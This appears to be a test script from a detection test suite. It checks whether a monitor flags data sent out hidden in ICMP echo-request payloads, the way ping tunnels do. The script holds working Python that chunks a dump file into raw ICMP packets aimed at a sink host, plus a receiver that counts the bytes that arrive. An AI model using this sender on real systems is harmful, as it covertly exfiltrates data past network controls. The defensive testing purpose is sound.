#!/bin/bash
# B-icmp: echo requests with the dump as their payload, as ping tunnels do.
# flow: read; sendto of 1,408 bytes on a raw IP socket: there is no port, and nobody accepts anything.
# tools: python3
# expect: sent counted any-port critical
. "$CORPUS/lib.sh"
mkdump
cat >helper.py <<'END'
import os, socket, sys
wire, got = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP), 0
wire.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4 << 20)
wire.bind((sys.argv[1], 0))
open("up", "w").close()
wire.settimeout(10)
try:
    while True:
        packet = wire.recv(65536)
        if packet[20] == 8:
            got += len(packet) - 20
            wire.settimeout(1)
except TimeoutError:
    print(got, file=open("got.new", "w"), flush=True)
    os.rename("got.new", "got")
END
bg_there python3 helper.py "$SINK"
until_true [ -e up ]
python3 - "$D" "$SINK" <<'END' || fail "ping"
import socket, struct, sys, time


def checksum(data):
    total = sum(struct.unpack(f"!{(len(data) + 1) // 2}H", data + bytes(len(data) % 2)))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


wire, number = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP), 0
with open(sys.argv[1], "rb") as dump:
    while part := dump.read(1400):
        head = struct.pack("!BBHHH", 8, 0, 0, 4711, number & 0xFFFF)
        head = struct.pack("!BBHHH", 8, 0, checksum(head + part), 4711, number & 0xFFFF)
        wire.sendto(head + part, (sys.argv[2], 0))
        number += 1
        time.sleep(.001)
END
until_true [ -s got ]
arrived "$(cat got)" "$(stat -c %s "$D")"
